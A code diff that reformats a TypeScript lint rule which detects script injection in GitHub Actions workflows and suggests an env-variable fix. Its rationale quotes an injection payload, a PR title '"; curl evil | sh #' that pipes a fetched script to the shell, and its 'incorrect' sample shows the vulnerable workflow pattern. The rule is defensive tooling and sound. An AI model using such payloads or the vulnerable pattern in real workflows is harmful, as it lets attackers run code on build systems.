@@ -20,41 +20,88 @@ const UNTRUSTED = [
 /** The dotted path of a property chain (`github.event.issue.title`, `*` for filters), or undefined. */
 function chain(e: Expr): string | undefined {
   switch (e.kind) {
-    case 'var': return e.name.toLowerCase();
-    case 'prop': { const o = chain(e.object); return o === undefined ? undefined : `${o}.${e.name.toLowerCase()}`; }
-    case 'index': { const o = chain(e.object); if (o === undefined) return undefined; return e.index.kind === 'string' ? `${o}.${e.index.value.toLowerCase()}` : `${o}.*`; }
-    case 'filter': { const o = chain(e.object); return o === undefined ? undefined : `${o}.*`; }
-    default: return undefined;
+    case 'var':
+      return e.name.toLowerCase();
+    case 'prop': {
+      const o = chain(e.object);
+      return o === undefined ? undefined : `${o}.${e.name.toLowerCase()}`;
+    }
+    case 'index': {
+      const o = chain(e.object);
+      if (o === undefined) return undefined;
+      return e.index.kind === 'string' ? `${o}.${e.index.value.toLowerCase()}` : `${o}.*`;
+    }
+    case 'filter': {
+      const o = chain(e.object);
+      return o === undefined ? undefined : `${o}.*`;
+    }
+    default:
+      return undefined;
   }
 }
 
 export function untrustedPaths(e: Expr, out: string[] = []): string[] {
   const c = chain(e);
-  if (c !== undefined) { if (UNTRUSTED.some((r) => r.test(c))) out.push(c); return out; }
+  if (c !== undefined) {
+    if (UNTRUSTED.some((r) => r.test(c))) out.push(c);
+    return out;
+  }
   switch (e.kind) {
-    case 'call': for (const a of e.args) untrustedPaths(a, out); break;
-    case 'binary': untrustedPaths(e.left, out); untrustedPaths(e.right, out); break;
-    case 'not': untrustedPaths(e.operand, out); break;
-    case 'index': untrustedPaths(e.object, out); break;
+    case 'call':
+      for (const a of e.args) untrustedPaths(a, out);
+      break;
+    case 'binary':
+      untrustedPaths(e.left, out);
+      untrustedPaths(e.right, out);
+      break;
+    case 'not':
+      untrustedPaths(e.operand, out);
+      break;
+    case 'index':
+      untrustedPaths(e.object, out);
+      break;
   }
   return out;
 }
 
 function envName(path: string): string {
   const parts = path.split('.').filter((p) => p !== '*' && p !== 'github' && p !== 'event');
-  return parts.slice(-2).join('_').replace(/[^A-Za-z0-9_]/g, '_').toUpperCase() || 'UNTRUSTED_INPUT';
+  return (
+    parts
+      .slice(-2)
+      .join('_')
+      .replace(/[^A-Za-z0-9_]/g, '_')
+      .toUpperCase() || 'UNTRUSTED_INPUT'
+  );
 }
 
 export const rule: Rule<WorkflowModel> = {
   meta: {
-    code: 'WF015', id: 'script-injection', kinds: ['workflow'], defaultSeverity: 'error',
-    description: 'Untrusted event values (issue titles, PR bodies, branch names, ...) must not be expanded inside `run:` scripts or `github-script`.',
-    messages: { injection: '"{{path}}" is controlled by whoever opens the issue or pull request; expanding it in a script lets them run commands. Pass it through an environment variable.' },
+    code: 'WF015',
+    id: 'script-injection',
+    kinds: ['workflow'],
+    defaultSeverity: 'error',
+    description:
+      'Untrusted event values (issue titles, PR bodies, branch names, ...) ' +
+      'must not be expanded inside `run:` scripts or `github-script`.',
+    messages: {
+      injection:
+        '"{{path}}" is controlled by whoever opens the issue or pull request; ' +
+        'expanding it in a script lets them run commands. Pass it through an environment variable.',
+    },
     fixable: 'suggestion',
     docs: {
-      rationale: '`${{ }}` is substituted into the script text before the shell runs it, so a PR title like `"; curl evil | sh #` becomes code. The standard fix is to put the value in `env:` and read the variable, which the shell never re-parses.',
-      incorrect: 'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
-      correct: 'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
+      rationale:
+        '`${{ }}` is substituted into the script text before the shell runs ' +
+        'it, so a PR title like `"; curl evil | sh #` becomes code. The standard fix is to put the ' +
+        'value in `env:` and read the variable, which the shell never re-parses.',
+      incorrect:
+        'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n ' +
+        '     - run: echo "${{ github.event.issue.title }}"\n',
+      correct:
+        'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n ' +
+        '     - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title ' +
+        '}}\n',
       peers: ['actionlint expression (untrusted input)'],
     },
   },
@@ -64,11 +111,18 @@ export const rule: Rule<WorkflowModel> = {
     for (const site of model.expressions) {
       if (!site.expr || !site.step) continue;
       const inRun = site.key === 'run' && /\.run$/.test(site.path);
-      const inScript = site.key === 'script' && !!site.step.uses && /^actions\/github-script@/i.test(site.step.uses.value);
+      const inScript =
+        site.key === 'script' && !!site.step.uses && /^actions\/github-script@/i.test(site.step.uses.value);
       if (!inRun && !inScript) continue;
       const paths = untrustedPaths(site.expr);
       if (!paths.length) continue;
-      ctx.report({ start: site.outerStart, end: site.outerEnd, messageId: 'injection', data: { path: paths[0] }, suggestions: doc ? fixFor(site, paths[0], inScript) : undefined });
+      ctx.report({
+        start: site.outerStart,
+        end: site.outerEnd,
+        messageId: 'injection',
+        data: { path: paths[0] },
+        suggestions: doc ? fixFor(site, paths[0], inScript) : undefined,
+      });
     }
     function fixFor(site: ExprSite, path: string, inScript: boolean) {
       const step = site.step!;
@@ -93,7 +147,8 @@ export const rule: Rule<WorkflowModel> = {
         if (/^\s*-\s*$/.test(prefix)) {
           // `- run: ...` : put env on the next lines after the whole step.
           const [, ve] = (step.node as unknown as { range: [number, number, number] }).range;
-          let at = ve; while (at > 0 && (text[at - 1] === '\n' || text[at - 1] === '\r')) at--;
+          let at = ve;
+          while (at > 0 && (text[at - 1] === '\n' || text[at - 1] === '\r')) at--;
           edits.push({ start: at, end: at, newText: `\n${indent}env:\n${indent}  ${name}: ${value}` });
         } else {
           edits.push({ start: ls, end: ls, newText: `${indent}env:\n${indent}  ${name}: ${value}\n` });
